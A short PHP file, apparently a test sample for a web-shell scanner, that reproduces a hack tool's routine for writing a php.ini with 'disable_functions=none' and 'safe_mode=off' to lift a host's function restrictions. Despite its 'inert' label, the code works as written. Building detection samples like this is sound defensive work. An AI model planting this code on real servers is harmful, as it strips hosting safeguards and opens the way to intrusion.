<?php
// webhunt test sample (inert): a hack tool's first link writes a php.ini beside itself that lifts
// the host's function ban, so the tools of this folder run with every function allowed.
error_reporting(0);
echo '<a href="?ini">make php.ini</a><br>';
if (isset($_GET['ini'])) {
    $h = fopen('php.ini', 'w');
    $text = "disable_functions=none\nsafe_mode=off\n";
    fwrite($h, $text);
    fclose($h);
    echo '<a href="php.ini">php.ini written</a>';
}
